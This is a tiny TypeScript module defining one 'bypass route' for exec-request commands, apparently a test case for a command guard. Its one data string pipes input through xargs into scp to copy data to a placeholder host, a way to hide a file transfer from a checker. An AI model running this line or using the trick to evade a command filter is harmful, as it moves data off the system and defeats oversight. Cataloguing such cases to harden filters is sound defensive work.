import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: by xargs',
  source: 'commands of one exec request',
  words: ['echo DATA host: | xargs scp'],
};
